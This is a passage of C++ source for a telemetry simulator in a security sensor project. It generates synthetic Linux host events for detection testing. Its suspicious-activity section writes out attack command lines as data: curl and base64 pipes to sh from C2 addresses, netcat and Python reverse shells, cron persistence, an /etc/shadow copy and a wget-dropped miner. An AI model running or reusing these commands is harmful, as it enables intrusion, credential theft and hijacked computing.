#include "sensor/simulator.h"

#include "sensor/sim_actions.h"

#include <signal.h>
#include <time.h>

#include <atomic>
#include <condition_variable>
#include <cstdio>
#include <deque>
#include <map>
#include <mutex>
#include <thread>
#include <unordered_map>

#include "common/crypto.h"
#include "common/log.h"
#include "common/time.h"
#include "common/version.h"
#include "sensor/batcher.h"
#include "sensor/event.h"
#include "sensor/host.h"
#include "sensor/inventory.h"
#include "sensor/process_collector.h"
#include "sensor/uploader.h"
#include "sensor/util.h"

namespace ward::sensor {

namespace {

constexpr int64_t kSecond = kTicksPerSecond;

struct Distro {
  const char* name;
  const char* version;
  const char* kernel;
  const char* pretty;
};
constexpr Distro kDistros[] = {
    {"Ubuntu", "22.04", "5.15.0-105-generic", "Ubuntu 22.04.4 LTS"},
    {"Debian", "12", "6.1.0-18-amd64", "Debian GNU/Linux 12 (bookworm)"},
    {"RHEL", "9.3", "5.14.0-362.8.1.el9_3.x86_64", "Red Hat Enterprise Linux 9.3 (Plow)"},
    {"Ubuntu", "20.04", "5.4.0-172-generic", "Ubuntu 20.04.6 LTS"},
    {"AmazonLinux", "2023", "6.1.72-96.166.amzn2023.x86_64", "Amazon Linux 2023"},
    {"CentOS", "7.9", "3.10.0-1160.108.1.el7.x86_64", "CentOS Linux 7 (Core)"},
    {"SLES", "15.5", "5.14.21-150500.55.44-default", "SUSE Linux Enterprise Server 15 SP5"},
    {"Rocky", "9.2", "5.14.0-284.11.1.el9_2.x86_64", "Rocky Linux 9.2 (Blue Onyx)"},
};
constexpr const char* kRoles[] = {"web", "db", "app", "build", "k8s", "jump", "mail", "dev"};
constexpr const char* kEnvs[] = {"prod", "prod", "prod", "staging", "dev"};
constexpr const char* kAdmins[] = {"alice", "bob", "carol", "dave", "erin"};

struct Dest {
  const char* url;
  const char* ip;
  int port;
};
constexpr Dest kExternal[] = {
    {"deb.debian.org", "151.101.2.132", 443},          {"archive.ubuntu.com", "91.189.91.39", 80},
    {"security.ubuntu.com", "185.125.190.36", 80},     {"github.com", "140.82.121.4", 443},
    {"objects.githubusercontent.com", "185.199.108.133", 443},
    {"pypi.org", "151.101.64.223", 443},               {"files.pythonhosted.org", "151.101.1.63", 443},
    {"registry-1.docker.io", "54.227.20.253", 443},    {"login.microsoftonline.com", "20.190.159.2", 443},
    {"api.github.com", "140.82.121.6", 443},           {"repo.maven.apache.org", "199.232.192.215", 443},
    {"cdn.redhat.com", "23.50.52.88", 443},            {"ntp.ubuntu.com", "185.125.190.58", 123},
};
struct Internal {
  const char* url;
  int port;
};
constexpr Internal kInternal[] = {
    {"db01.corp.local", 5432}, {"redis01.corp.local", 6379}, {"kafka01.corp.local", 9092},
    {"ldap.corp.local", 636},  {"api.corp.local", 8443},     {"vault.corp.local", 8200},
    {"elastic01.corp.local", 9200},
};

struct Cmd {
  const char* path;
  const char* cmdline;
};
constexpr Cmd kSessionCmds[] = {
    {"/usr/bin/ls", "ls -la /var/log"},
    {"/usr/bin/ps", "ps aux"},
    {"/usr/bin/top", "top -b -n 1"},
    {"/usr/bin/df", "df -h"},
    {"/usr/bin/free", "free -m"},
    {"/usr/bin/tail", "tail -n 200 /var/log/syslog"},
    {"/usr/bin/grep", "grep -i error /var/log/nginx/error.log"},
    {"/usr/bin/systemctl", "systemctl status nginx"},
    {"/usr/bin/journalctl", "journalctl -u ssh --since today"},
    {"/usr/bin/vim.basic", "vim /etc/nginx/sites-available/default"},
    {"/usr/bin/sudo", "sudo apt-get update"},
    {"/usr/bin/git", "git pull --rebase"},
    {"/usr/bin/docker", "docker ps -a"},
    {"/usr/local/bin/kubectl", "kubectl get pods -A"},
    {"/usr/bin/cat", "cat /etc/os-release"},
    {"/usr/bin/ss", "ss -tlnp"},
    {"/usr/bin/uptime", "uptime"},
    {"/usr/bin/less", "less /var/log/auth.log"},
    {"/usr/bin/python3.10", "python3 manage.py migrate --noinput"},
    {"/usr/bin/du", "du -sh /var/lib/docker"},
    {"/usr/bin/find", "find /var/log -name *.gz -mtime +30"},
    {"/usr/bin/curl", "curl -s -o /dev/null -w %{http_code} https://api.corp.local/health"},
};
constexpr Cmd kCronJobs[] = {
    {"/usr/bin/run-parts", "run-parts --report /etc/cron.hourly"},
    {"/usr/lib/php/sessionclean", "/usr/lib/php/sessionclean"},
    {"/usr/local/bin/backup.sh", "/bin/bash /usr/local/bin/backup.sh --incremental"},
    {"/usr/lib/sysstat/debian-sa1", "/usr/lib/sysstat/debian-sa1 1 1"},
    {"/usr/bin/certbot", "/usr/bin/certbot -q renew"},
    {"/usr/bin/rsync", "rsync -az --delete /srv/data/ backup01.corp.local:/backups/data/"},
};
constexpr Cmd kSystemdJobs[] = {
    {"/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"},
    {"/usr/lib/apt/apt.systemd.daily", "/bin/sh /usr/lib/apt/apt.systemd.daily update"},
    {"/usr/bin/updatedb.mlocate", "/usr/bin/updatedb.mlocate"},
    {"/usr/sbin/fstrim", "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported"},
    {"/usr/bin/systemd-tmpfiles", "systemd-tmpfiles --clean"},
    {"/usr/lib/snapd/snapd", "/usr/lib/snapd/snapd"},
};
constexpr Cmd kBuildCmds[] = {
    {"/usr/bin/git", "git fetch --tags --force --progress -- https://github.com/corp/orders.git +refs/heads/*:refs/remotes/origin/*"},
    {"/usr/bin/make", "make -j8 all"},
    {"/usr/bin/gcc-12", "gcc -O2 -Wall -c src/main.c -o build/main.o"},
    {"/usr/share/maven/bin/mvn", "mvn -B -q clean package -DskipTests"},
    {"/usr/bin/npm", "npm ci --no-audit"},
    {"/usr/bin/docker", "docker build -t registry.corp.local/orders:1.42.0 ."},
};

struct UserInfo {
  const char* name;
  uint32_t uid;
};
uint32_t UidOf(const std::string& user) {
  static const std::map<std::string, uint32_t> kUids = {
      {"root", 0},        {"www-data", 33},   {"postgres", 114},  {"appsvc", 998}, {"jenkins", 997},
      {"postfix", 105},   {"alice", 1001},    {"bob", 1002},      {"carol", 1003}, {"dave", 1004},
      {"erin", 1005},     {"syslog", 104},    {"_apt", 100},
  };
  auto it = kUids.find(user);
  return it == kUids.end() ? 1500 : it->second;
}

std::string PublicIp(std::mt19937_64& rng) {
  static constexpr int kFirst[] = {23, 31, 45, 62, 77, 81, 89, 93, 104, 109, 141, 172, 185, 193, 203, 212};
  std::uniform_int_distribution<int> octet(1, 254);
  int a = kFirst[rng() % std::size(kFirst)];
  return std::to_string(a) + "." + std::to_string(octet(rng)) + "." + std::to_string(octet(rng)) + "." +
         std::to_string(octet(rng));
}

template <typename T, size_t N>
const T& Pick(std::mt19937_64& rng, const T (&items)[N]) {
  return items[rng() % N];
}

}  // namespace

struct SimDevice::Impl {
  int index = 0;
  std::string role;
  std::string env;
  Distro distro{};
  std::string name;        // FQDN
  std::string short_name;  // AccountDomain
  std::string host_id;
  std::string ip;
  std::string mac;
  std::string gateway;
  std::vector<std::string> tags;
  int64_t boot = 0;
  int64_t next_pid = 0;
  std::map<std::string, FileHashes> hashes;
  std::unordered_map<int, ProcessInfo> live;
  std::deque<int> transient;  // short-lived pids kept as possible parents, oldest first
  int systemd = 1, sshd = 0, cron = 0, rsyslog = 0, daemon = 0, worker = 0;
  std::vector<int> sessions;  // bash pids of logged-on users
  int64_t listen_port = 0;
  uint64_t unique_counter = 0;

  FileHashes HashesFor(const std::string& path) {
    auto it = hashes.find(path);
    if (it != hashes.end()) return it->second;
    // Deterministic per distribution and path: the same binary hashes alike on all devices of a distro.
    std::string seed = std::string("ward-sim|") + distro.name + distro.version + "|" + path;
    FileHashes h;
    h.sha256 = HexEncode(Sha256(seed));
    h.sha1 = HexEncode(Sha1(seed));
    h.md5 = HexEncode(Sha256("md5|" + seed)).substr(0, 32);
    h.size = 16 * 1024 + static_cast<int64_t>(static_cast<unsigned char>(h.sha256[0]) * 7919 +
                                              static_cast<unsigned char>(h.sha256[1]) * 104729) % (4 * 1024 * 1024);
    hashes.emplace(path, h);
    return h;
  }

  ProcessInfo& Spawn(int ppid, const std::string& path, const std::string& cmdline, const std::string& user,
                     int64_t when, bool keep) {
    ProcessInfo p;
    p.pid = static_cast<int>(next_pid++);
    if (next_pid > 4'000'000) next_pid = 3000;
    p.ppid = ppid;
    p.creation_time = when;
    p.exe_path = path;
    p.comm = BaseName(path).substr(0, 15);
    p.cmdline = cmdline;
    p.account_name = user;
    p.uid = p.euid = UidOf(user);
    p.cwd = user == "root" ? "/root" : "/home/" + user;
    p.hashes = HashesFor(path);
    int pid = p.pid;
    live[pid] = std::move(p);
    if (!keep) {
      transient.push_back(pid);
      while (transient.size() > 64) {
        live.erase(transient.front());
        transient.pop_front();
      }
    }
    return live[pid];
  }

  const ProcessInfo* Find(int pid) const {
    auto it = live.find(pid);
    return it == live.end() ? nullptr : &it->second;
  }

  void FixDomain(json::Value& ev) const {
    if (ev.Find("AccountDomain")) ev.Set("AccountDomain", json::Value(short_name));
    if (ev.Find("InitiatingProcessAccountDomain")) ev.Set("InitiatingProcessAccountDomain", json::Value(short_name));
  }

  json::Value ProcEvent(const ProcessInfo& p, int64_t now) const {
    const ProcessInfo* parent = Find(p.ppid);
    const ProcessInfo* gp = parent ? Find(parent->ppid) : nullptr;
    json::Value ev = ProcessCreatedEvent(p, parent, gp, now);
    FixDomain(ev);
    return ev;
  }

  void AddInitiating(json::Value& ev, const ProcessInfo& p) const {
    AddInitiatingProcess(ev, &p, Find(p.ppid));
    FixDomain(ev);
  }

  json::Value NetEvent(const ProcessInfo& p, std::string_view action, const std::string& remote_ip, int remote_port,
                       const std::string& url, int local_port, int64_t now) const {
    json::Value ev = NewEvent(kNetworkTable, action, now);
    ev.AppendMember("RemoteIP", json::Value(remote_ip));
    ev.AppendMember("RemotePort", json::Value(static_cast<int64_t>(remote_port)));
    SetIfNotEmpty(ev, "RemoteUrl", url);
    ev.AppendMember("LocalIP", json::Value(ip));
    ev.AppendMember("LocalPort", json::Value(static_cast<int64_t>(local_port)));
    ev.AppendMember("Protocol", json::Value("Tcp"));
    ev.AppendMember("LocalIPType", json::Value(IpType(ip)));
    ev.AppendMember("RemoteIPType", json::Value(IpType(remote_ip)));
    AddInitiating(ev, p);
    return ev;
  }

  json::Value FileEvent(const ProcessInfo& p, std::string_view action, const std::string& path, bool hashed,
                        const std::string& previous, int64_t now) {
    json::Value ev = NewEvent(kFileTable, action, now);
    ev.AppendMember("FileName", json::Value(BaseName(path)));
    ev.AppendMember("FolderPath", json::Value(path));
    if (hashed) {
      FileHashes h = HashesFor(path + "#" + std::to_string(now / (60 * kSecond)));  // content changes over time
      ev.AppendMember("SHA1", json::Value(h.sha1));
      ev.AppendMember("SHA256", json::Value(h.sha256));
      ev.AppendMember("MD5", json::Value(h.md5));
      ev.AppendMember("FileSize", json::Value(h.size % (512 * 1024)));
    }
    if (!previous.empty()) {
      ev.AppendMember("PreviousFileName", json::Value(BaseName(previous)));
      ev.AppendMember("PreviousFolderPath", json::Value(previous));
    }
    AddInitiating(ev, p);
    return ev;
  }

  json::Value LogonEvent(std::string_view action, const std::string& user, std::string_view logon_type,
                         const std::string& remote_ip, int remote_port, std::string_view failure, int64_t now) const {
    json::Value ev = NewEvent(kLogonTable, action, now);
    ev.AppendMember("LogonType", json::Value(logon_type));
    ev.AppendMember("AccountDomain", json::Value(short_name));
    ev.AppendMember("AccountName", json::Value(user));
    if (action == "LogonFailed") {
      ev.AppendMember("Protocol", json::Value("Ssh"));
      SetIfNotEmpty(ev, "FailureReason", failure);
    }
    ev.AppendMember("IsLocalAdmin", json::Value(user == "root" || user == "alice" || user == "bob"));
    if (!remote_ip.empty()) {
      ev.AppendMember("RemoteIP", json::Value(remote_ip));
      ev.AppendMember("RemoteIPType", json::Value(IpType(remote_ip)));
      ev.AppendMember("RemotePort", json::Value(static_cast<int64_t>(remote_port)));
    }
    if (const ProcessInfo* s = Find(sshd)) AddInitiating(ev, *s);
    return ev;
  }

  std::string AdminIp(std::mt19937_64& rng) const {
    return "10.10." + std::to_string(rng() % 4) + "." + std::to_string(10 + rng() % 40);
  }
  std::string InternalIp(const char* host) const {
    uint8_t h = static_cast<uint8_t>(Sha256(host)[0]);
    return "10.20." + std::to_string(h % 8) + "." + std::to_string(10 + h % 200);
  }
  int EphemeralPort(std::mt19937_64& rng) const { return 32768 + static_cast<int>(rng() % 28000); }
  // A fresh hex id of `bytes` bytes (container ids, temp names): random-looking but a function of
  // the device and a counter, so a seeded simulation is reproducible and the rng sequence unchanged.
  std::string Unique(size_t bytes) {
    std::string h = HexEncode(Sha256(host_id + "/" + std::to_string(unique_counter++)));
    while (h.size() < 2 * bytes) h += HexEncode(Sha256(h));
    return h.substr(0, 2 * bytes);
  }

  const ProcessInfo& SessionShell(std::mt19937_64& rng, int64_t now, std::vector<json::Value>& out) {
    if (sessions.empty() || (sessions.size() < 3 && rng() % 40 == 0)) OpenSession(rng, now, Pick(rng, kAdmins), AdminIp(rng), out);
    return live[sessions[rng() % sessions.size()]];
  }

  void OpenSession(std::mt19937_64& rng, int64_t now, const std::string& user, const std::string& from,
                   std::vector<json::Value>& out) {
    int port = EphemeralPort(rng);
    out.push_back(NetEvent(live[sshd], "InboundConnectionAccepted", from, port, "", 22, now));
    out.push_back(LogonEvent("LogonSuccess", user, "RemoteInteractive", from, port, "", now + 2000));
    ProcessInfo& priv = Spawn(sshd, "/usr/sbin/sshd", "sshd: " + user + " [priv]", "root", now + 3000, true);
    out.push_back(ProcEvent(priv, now + 3000));
    ProcessInfo& shell = Spawn(priv.pid, "/usr/bin/bash", "-bash", user, now + 9000, true);
    out.push_back(ProcEvent(shell, now + 9000));
    sessions.push_back(shell.pid);
    if (sessions.size() > 4) {
      int old = sessions.front();
      if (const ProcessInfo* s = Find(old)) live.erase(s->ppid);
      live.erase(old);
      sessions.erase(sessions.begin());
    }
  }

  // ---- benign activities ----

  void ProcessActivity(std::mt19937_64& rng, int64_t now, std::vector<json::Value>& out) {
    int kind = static_cast<int>(rng() % 10);
    if (kind < 4) {
      const ProcessInfo& shell = SessionShell(rng, now, out);
      const Cmd& c = (role == "build" && rng() % 2) ? Pick(rng, kBuildCmds) : Pick(rng, kSessionCmds);
      std::string user = shell.account_name;
      ProcessInfo& p = Spawn(shell.pid, c.path, c.cmdline, user, now, false);
      out.push_back(ProcEvent(p, now));
      if (std::string_view(c.cmdline).starts_with("sudo ")) {
        ProcessInfo& child = Spawn(p.pid, "/usr/bin/apt-get", std::string(c.cmdline).substr(5), "root", now + 40000, false);
        out.push_back(ProcEvent(child, now + 40000));
      }
    } else if (kind < 7) {
      const Cmd& c = Pick(rng, kCronJobs);
      std::string user = rng() % 3 == 0 ? std::string(role == "db" ? "postgres" : "www-data") : "root";
      ProcessInfo& sh = Spawn(cron, "/usr/bin/dash", std::string("/bin/sh -c ") + c.cmdline, user, now, false);
      out.push_back(ProcEvent(sh, now));
      ProcessInfo& job = Spawn(sh.pid, c.path, c.cmdline, user, now + 12000, false);
      out.push_back(ProcEvent(job, now + 12000));
    } else if (kind < 8) {
      const Cmd& c = Pick(rng, kSystemdJobs);
      ProcessInfo& p = Spawn(systemd, c.path, c.cmdline, "root", now, false);
      out.push_back(ProcEvent(p, now));
    } else {
      // Role daemon children.
      const ProcessInfo& d = live[daemon];
      std::string path, cmd;
      if (role == "db") {
        path = d.exe_path;
        cmd = rng() % 2 ? "postgres: autovacuum worker" : "postgres: orders orders 10.20.1.15(51234) SELECT";
      } else if (role == "build") {
        const Cmd& c = Pick(rng, kBuildCmds);
        path = c.path;
        cmd = c.cmdline;
      } else if (role == "k8s" || role == "dev") {
        path = "/usr/bin/containerd-shim-runc-v2";
        cmd = "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id " + Unique(32) + " -address /run/containerd/containerd.sock";
      } else if (role == "mail") {
        path = "/usr/lib/postfix/sbin/smtpd";
        cmd = "smtpd -n smtp -t inet -u -c -o stress= -s 2";
      } else {
        path = "/usr/bin/dash";
        cmd = "/bin/sh -c /usr/bin/convert /var/www/uploads/img" + std::to_string(rng() % 10000) + ".png -resize 800x600 /var/www/cache/thumb.png";
      }
      ProcessInfo& p = Spawn(d.pid, path, cmd, d.account_name, now, false);
      out.push_back(ProcEvent(p, now));
    }
  }

  void NetworkActivity(std::mt19937_64& rng, int64_t now, std::vector<json::Value>& out) {
    int kind = static_cast<int>(rng() % 10);
    if (kind < 4) {
      const Internal& dst = Pick(rng, kInternal);
      const ProcessInfo& p = live[daemon];
      out.push_back(NetEvent(p, "ConnectionSuccess", InternalIp(dst.url), dst.port, dst.url, EphemeralPort(rng), now));
    } else if (kind < 7) {
      const Dest& dst = Pick(rng, kExternal);
      const ProcessInfo* p = nullptr;
      std::string url = std::string("https://") + dst.url + "/";
      if (rng() % 2 && !transient.empty()) p = Find(transient.back());
      if (!p) p = &live[daemon];
      out.push_back(NetEvent(*p, "ConnectionSuccess", dst.ip, dst.port, dst.url, EphemeralPort(rng), now));
    } else if (kind < 9) {
      // Inbound to the role's service.
      int port = role == "web" ? (rng() % 4 ? 443 : 80) : role == "db" ? 5432 : role == "mail" ? 25 : 8080;
      std::string from = (role == "web" || role == "mail") ? PublicIp(rng) : "10.20.1." + std::to_string(10 + rng() % 50);
      out.push_back(NetEvent(live[worker], "InboundConnectionAccepted", from, EphemeralPort(rng), "", port, now));
    } else {
      const ProcessInfo& p = live[daemon];
      json::Value ev = NewEvent(kNetworkTable, "ListeningConnectionCreated", now);
      ev.AppendMember("LocalIP", json::Value("0.0.0.0"));
      ev.AppendMember("LocalPort", json::Value(static_cast<int64_t>(9100 + rng() % 10)));
      ev.AppendMember("Protocol", json::Value("Tcp"));
      AddInitiating(ev, p);
      out.push_back(std::move(ev));
    }
  }

  void FileActivity(std::mt19937_64& rng, int64_t now, std::vector<json::Value>& out) {
    int kind = static_cast<int>(rng() % 10);
    if (kind < 4) {
      std::string path = role == "web" ? "/var/log/nginx/access.log"
                         : role == "db" ? "/var/log/postgresql/postgresql-15-main.log"
                                        : "/var/log/app/application.log";
      out.push_back(FileEvent(live[worker], "FileModified", path, false, "", now));
    } else if (kind < 6) {
      const ProcessInfo* p = transient.empty() ? &live[daemon] : Find(transient.back());
      std::string path = "/tmp/tmp" + Unique(4);
      out.push_back(FileEvent(*p, "FileCreated", path, true, "", now));
      if (rng() % 2) out.push_back(FileEvent(*p, "FileDeleted", path, false, "", now + 5 * kSecond / 10));
    } else if (kind < 7) {
      ProcessInfo& lr = Spawn(systemd, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "root", now, false);
      out.push_back(ProcEvent(lr, now));
      std::string base = role == "web" ? "/var/log/nginx/access.log" : "/var/log/syslog";
      out.push_back(FileEvent(lr, "FileRenamed", base + ".1", true, base, now + 2000));
      out.push_back(FileEvent(lr, "FileCreated", base, false, "", now + 3000));
    } else if (kind < 9) {
      const ProcessInfo& shell = SessionShell(rng, now, out);
      ProcessInfo& vim = Spawn(shell.pid, "/usr/bin/vim.basic", "vim /etc/nginx/nginx.conf", shell.account_name, now, false);
      out.push_back(ProcEvent(vim, now));
      out.push_back(FileEvent(vim, "FileCreated", "/etc/nginx/.nginx.conf.swp", false, "", now + kSecond));
      out.push_back(FileEvent(vim, "FileModified", "/etc/nginx/nginx.conf", true, "", now + 20 * kSecond));
      out.push_back(FileEvent(vim, "FileDeleted", "/etc/nginx/.nginx.conf.swp", false, "", now + 21 * kSecond));
    } else {
      ProcessInfo& dpkg = Spawn(systemd, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 23 --configure --pending", "root", now, false);
      out.push_back(ProcEvent(dpkg, now));
      static constexpr const char* kBins[] = {"/usr/bin/jq", "/usr/bin/htop", "/usr/bin/tmux", "/usr/sbin/tcpdump"};
      std::string bin = Pick(rng, kBins);
      out.push_back(FileEvent(dpkg, "FileCreated", bin + ".dpkg-new", true, "", now + 1000));
      out.push_back(FileEvent(dpkg, "FileRenamed", bin, true, bin + ".dpkg-new", now + 2000));
    }
  }

  void LogonActivity(std::mt19937_64& rng, int64_t now, std::vector<json::Value>& out) {
    if (rng() % 6 == 0) {
      std::string from = AdminIp(rng);
      out.push_back(LogonEvent("LogonFailed", Pick(rng, kAdmins), "Network", from, EphemeralPort(rng),
                               "InvalidUserNameOrPassword", now));
    } else {
      OpenSession(rng, now, Pick(rng, kAdmins), AdminIp(rng), out);
    }
  }

  // ---- suspicious activities ----

  void Suspicious(std::mt19937_64& rng, int64_t now, std::vector<json::Value>& out) {
    int kind = static_cast<int>(rng() % 8);
    static constexpr const char* kC2[] = {"45.9.148.114", "185.220.101.4", "91.240.118.172", "193.142.146.35"};
    std::string c2 = Pick(rng, kC2);
    switch (kind) {
      case 0: {  // web shell pulls and runs a script
        ProcessInfo& sh = Spawn(worker, "/usr/bin/dash", "sh -c curl -fsSL http://" + c2 + "/x.sh | sh", live[worker].account_name, now, false);
        out.push_back(ProcEvent(sh, now));
        ProcessInfo& curl = Spawn(sh.pid, "/usr/bin/curl", "curl -fsSL http://" + c2 + "/x.sh", sh.account_name, now + 3000, false);
        out.push_back(ProcEvent(curl, now + 3000));
        out.push_back(NetEvent(curl, "ConnectionSuccess", c2, 80, "http://" + c2 + "/x.sh", EphemeralPort(rng), now + 9000));
        ProcessInfo& sh2 = Spawn(sh.pid, "/usr/bin/dash", "sh", sh.account_name, now + 3100, false);
        out.push_back(ProcEvent(sh2, now + 3100));
        out.push_back(FileEvent(sh2, "FileCreated", "/tmp/.ICE-unix/.x", true, "", now + 2 * kSecond));
        break;
      }
      case 1: {  // netcat reverse shell
        const ProcessInfo& shell = SessionShell(rng, now, out);
        ProcessInfo& nc = Spawn(shell.pid, "/usr/bin/nc.traditional", "nc -e /bin/sh " + c2 + " 4444", shell.account_name, now, false);
        out.push_back(ProcEvent(nc, now));
        out.push_back(NetEvent(nc, "ConnectionSuccess", c2, 4444, "", EphemeralPort(rng), now + 20000));
        break;
      }
      case 2: {  // base64-encoded command piped to bash
        std::string payload = "curl -s http://" + c2 + "/p | sh";
        std::string b64 = Base64Encode(payload);
        ProcessInfo& bash = Spawn(worker, "/usr/bin/bash", "bash -c \"echo " + b64 + " | base64 -d | bash\"", live[worker].account_name, now, false);
        out.push_back(ProcEvent(bash, now));
        ProcessInfo& dec = Spawn(bash.pid, "/usr/bin/base64", "base64 -d", bash.account_name, now + 2000, false);
        out.push_back(ProcEvent(dec, now + 2000));
        ProcessInfo& inner = Spawn(bash.pid, "/usr/bin/bash", "bash", bash.account_name, now + 2100, false);
        out.push_back(ProcEvent(inner, now + 2100));
        break;
      }
      case 3: {  // python exec of a base64 blob
        std::string code = "import socket,subprocess,os;s=socket.socket();s.connect(('" + c2 + "',443));os.dup2(s.fileno(),0)";
        const ProcessInfo& shell = SessionShell(rng, now, out);
        ProcessInfo& py = Spawn(shell.pid, "/usr/bin/python3.10",
                                "python3 -c \"import base64;exec(base64.b64decode('" + Base64Encode(code) + "'))\"",
                                shell.account_name, now, false);
        out.push_back(ProcEvent(py, now));
        out.push_back(NetEvent(py, "ConnectionSuccess", c2, 443, "", EphemeralPort(rng), now + 30000));
        break;
      }
      case 4: {  // cron persistence
        ProcessInfo& bash = Spawn(worker, "/usr/bin/bash",
                                  "bash -c echo '* * * * * root curl -s http://" + c2 + "/u | sh' > /etc/cron.d/.sysupdate",
                                  "root", now, false);
        out.push_back(ProcEvent(bash, now));
        out.push_back(FileEvent(bash, "FileCreated", "/etc/cron.d/.sysupdate", true, "", now + 1000));
        break;
      }
      case 5: {  // password guessing from the internet
        std::string from = PublicIp(rng);
        int attempts = 8 + static_cast<int>(rng() % 18);
        static constexpr const char* kUsers[] = {"root", "admin", "oracle", "test", "ubuntu", "postgres", "git"};
        std::string last;
        for (int i = 0; i < attempts; ++i) {
          last = Pick(rng, kUsers);
          bool invalid = last != "root" && last != "postgres";
          out.push_back(LogonEvent("LogonFailed", last, "Network", from, EphemeralPort(rng),
                                   invalid ? "UnknownUser" : "InvalidUserNameOrPassword", now + i * 8 * kSecond / 10));
        }
        if (rng() % 4 == 0) OpenSession(rng, now + attempts * kSecond, "oracle", from, out);
        break;
      }
      case 6: {  // credential file copy
        const ProcessInfo& shell = SessionShell(rng, now, out);
        ProcessInfo& cp = Spawn(shell.pid, "/usr/bin/cp", "cp /etc/shadow /tmp/.sh_bak", "root", now, false);
        out.push_back(ProcEvent(cp, now));
        out.push_back(FileEvent(cp, "FileCreated", "/tmp/.sh_bak", true, "", now + 1000));
        break;
      }
      default: {  // dropper + miner
        ProcessInfo& wget = Spawn(worker, "/usr/bin/wget", "wget -q http://" + c2 + "/kworker -O /tmp/.kworker",
                                  live[worker].account_name, now, false);
        out.push_back(ProcEvent(wget, now));
        out.push_back(NetEvent(wget, "ConnectionSuccess", c2, 80, "http://" + c2 + "/kworker", EphemeralPort(rng), now + 5000));
        out.push_back(FileEvent(wget, "FileCreated", "/tmp/.kworker", true, "", now + 2 * kSecond));
        ProcessInfo& chmod = Spawn(worker, "/usr/bin/chmod", "chmod +x /tmp/.kworker", wget.account_name, now + 3 * kSecond, false);
        out.push_back(ProcEvent(chmod, now + 3 * kSecond));
        ProcessInfo& miner = Spawn(worker, "/tmp/.kworker", "/tmp/.kworker -o stratum+tcp://" + c2 + ":3333 -t 4",
                                   wget.account_name, now + 4 * kSecond, false);
        out.push_back(ProcEvent(miner, now + 4 * kSecond));
        out.push_back(NetEvent(miner, "ConnectionSuccess", c2, 3333, "", EphemeralPort(rng), now + 5 * kSecond));
        break;
      }
    }
  }
};

SimDevice::SimDevice(int index, uint64_t seed, int64_t now_ticks) : impl_(std::make_unique<Impl>()) {
  Impl& d = *impl_;
  std::mt19937_64 rng(seed * 1'000'003 + static_cast<uint64_t>(index));
  d.index = index;
  d.role = kRoles[static_cast<size_t>(index) % std::size(kRoles)];
  d.env = kEnvs[static_cast<size_t>(index / 3) % std::size(kEnvs)];
  d.distro = kDistros[static_cast<size_t>(index * 7 + index / 8) % std::size(kDistros)];
  char name[64];
  std::snprintf(name, sizeof(name), "sim-%s-%03d", d.role.c_str(), index);
  d.short_name = name;
  d.name = d.short_name + ".corp.local";
  d.host_id = HexEncode(Sha256("ward-simulator-host/" + std::to_string(index)));
  d.ip = "10." + std::to_string(30 + index / 65000) + "." + std::to_string((index / 250) % 256) + "." +
         std::to_string(2 + index % 250);
  d.gateway = d.ip.substr(0, d.ip.rfind('.')) + ".1";
  std::string h = Sha256(d.host_id);
  char mac[18];
  std::snprintf(mac, sizeof(mac), "00:15:5D:%02X:%02X:%02X", static_cast<unsigned char>(h[0]),
                static_cast<unsigned char>(h[1]), static_cast<unsigned char>(h[2]));
  d.mac = mac;
  d.tags = {d.env, d.role, "linux"};
  if (d.role == "web" || d.role == "mail") d.tags.push_back("internet-facing");
  int64_t now = now_ticks != 0 ? now_ticks : NowTicks();
  d.boot = now - static_cast<int64_t>(3600 + rng() % (40 * 86400)) * kSecond;
  d.next_pid = 2000 + static_cast<int64_t>(rng() % 50000);

  auto daemon_proc = [&](int pid, int ppid, const std::string& path, const std::string& cmd, const std::string& user,
                         int64_t offset_s) {
    ProcessInfo p;
    p.pid = pid;
    p.ppid = ppid;
    p.creation_time = d.boot + offset_s * kSecond;
    p.exe_path = path;
    p.comm = BaseName(path).substr(0, 15);
    p.cmdline = cmd;
    p.account_name = user;
    p.uid = p.euid = UidOf(user);
    p.cwd = "/";
    p.hashes = d.HashesFor(path);
    d.live[pid] = std::move(p);
    return pid;
  };
  d.systemd = daemon_proc(1, 0, "/usr/lib/systemd/systemd", "/sbin/init splash", "root", 0);
  d.rsyslog = daemon_proc(612, 1, "/usr/sbin/rsyslogd", "/usr/sbin/rsyslogd -n -iNONE", "syslog", 4);
  d.cron = daemon_proc(618, 1, "/usr/sbin/cron", "/usr/sbin/cron -f -P", "root", 4);
  d.sshd = daemon_proc(803, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "root", 6);
  if (d.role == "web") {
    d.daemon = daemon_proc(951, 1, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;", "root", 8);
    d.worker = daemon_proc(1204, 1, "/usr/sbin/php-fpm8.1", "php-fpm: pool www", "www-data", 9);
  } else if (d.role == "db") {
    d.daemon = daemon_proc(1002, 1, "/usr/lib/postgresql/15/bin/postgres",
                           "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf",
                           "postgres", 8);
    d.worker = daemon_proc(1010, d.daemon, "/usr/lib/postgresql/15/bin/postgres", "postgres: walwriter", "postgres", 9);
  } else if (d.role == "app") {
    d.daemon = daemon_proc(1120, 1, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                           "java -Xms512m -Xmx2g -jar /opt/app/orders-service.jar --spring.profiles.active=prod", "appsvc", 10);
    d.worker = d.daemon;
  } else if (d.role == "build") {
    d.daemon = daemon_proc(1130, 1, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                           "java -Djava.awt.headless=true -jar /usr/share/java/jenkins.war --webroot=/var/cache/jenkins/war --httpPort=8080",
                           "jenkins", 10);
    d.worker = d.daemon;
  } else if (d.role == "k8s" || d.role == "dev") {
    d.daemon = daemon_proc(890, 1, "/usr/bin/containerd", "/usr/bin/containerd", "root", 7);
    d.worker = daemon_proc(1301, 1, "/usr/bin/kubelet",
                           "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock",
                           "root", 12);
  } else if (d.role == "mail") {
    d.daemon = daemon_proc(1401, 1, "/usr/lib/postfix/sbin/master", "/usr/lib/postfix/sbin/master -w", "root", 9);
